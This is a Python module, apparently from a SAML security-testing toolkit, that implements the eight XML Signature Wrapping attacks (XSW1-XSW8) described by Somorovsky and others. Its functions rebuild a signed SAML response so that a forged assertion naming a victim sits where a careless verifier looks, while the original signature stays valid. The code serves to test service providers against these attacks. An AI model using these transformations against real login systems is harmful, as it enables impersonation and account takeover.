"""Signature wrapping, XSW1 to XSW8: the signed part moves aside, an evil one takes its place.

The constructions are those of Somorovsky and others, "On Breaking SAML: Be Whoever You Want to
Be" (2012), under the numbers by which test tools know them. 1 and 2 take a signed Response, the
others a signed assertion. Each signature stays true for the element that it refers to; the
victim's name is where a careless reader looks.
"""

from __future__ import annotations

from lxml import etree

from helpers.providers.saml.attack import (
    Context,
    assertion_in,
    evil_copy,
    on_tree,
    say_victim,
    signature_of,
)
from helpers.providers.saml.safe_xml import copy_of, element, qname
from helpers.providers.saml.signing import strip_signature


def _evil_response(response: etree._Element, context: Context) -> etree._Element:
    """A copy of a signed Response, signature included, that speaks of the victim."""
    signature_of(response)
    evil = copy_of(response)
    evil.set("ID", f"_evil{response.get('ID', '')}")
    say_victim(assertion_in(evil), context)
    return evil


def _without_signature(message: etree._Element) -> etree._Element:
    copied = copy_of(message)
    strip_signature(copied)
    return copied


@on_tree
def xsw1(response: etree._Element, context: Context) -> etree._Element:
    """An evil Response; the signed one lies inside its signature."""
    evil = _evil_response(response, context)
    signature_of(evil).append(_without_signature(response))
    return evil


@on_tree
def xsw2(response: etree._Element, context: Context) -> etree._Element:
    """An evil Response; the signed one lies beside its signature, in front of it."""
    evil = _evil_response(response, context)
    signature_of(evil).addprevious(_without_signature(response))
    return evil


@on_tree
def xsw3(response: etree._Element, context: Context) -> etree._Element:
    """An evil assertion in front of the signed one."""
    assertion = assertion_in(response)
    signature_of(assertion)
    assertion.addprevious(evil_copy(assertion, context))
    return response


@on_tree
def xsw4(response: etree._Element, context: Context) -> etree._Element:
    """An evil assertion around the signed one."""
    assertion = assertion_in(response)
    signature_of(assertion)
    evil = evil_copy(assertion, context)
    response.replace(assertion, evil)
    evil.append(assertion)
    return response


@on_tree
def xsw5(response: etree._Element, context: Context) -> etree._Element:
    """An evil assertion that holds the signature; the signed one stands behind it."""
    original = _take_over(response, context)
    response.append(original)
    return response


@on_tree
def xsw6(response: etree._Element, context: Context) -> etree._Element:
    """An evil assertion that holds the signature; the signed one lies inside the signature."""
    original = _take_over(response, context)
    signature_of(assertion_in(response)).append(original)
    return response


@on_tree
def xsw7(response: etree._Element, context: Context) -> etree._Element:
    """An evil assertion in samlp:Extensions, where anything may stand."""
    assertion = assertion_in(response)
    signature_of(assertion)
    extensions = element(None, "samlp:Extensions")
    extensions.append(evil_copy(assertion, context))
    issuer = response.find(qname("saml:Issuer"))
    response.insert(0 if issuer is None else response.index(issuer) + 1, extensions)
    return response


@on_tree
def xsw8(response: etree._Element, context: Context) -> etree._Element:
    """An evil assertion that holds the signature; the signed one lies in a ds:Object of it."""
    original = _take_over(response, context)
    element(signature_of(assertion_in(response)), "ds:Object").append(original)
    return response


def _take_over(response: etree._Element, context: Context) -> etree._Element:
    """Turn the signed assertion into an evil one that keeps the signature; return the original."""
    assertion = assertion_in(response)
    signature_of(assertion)
    original = _without_signature(assertion)
    assertion.set("ID", f"_evil{assertion.get('ID', '')}")
    say_victim(assertion, context)
    return original
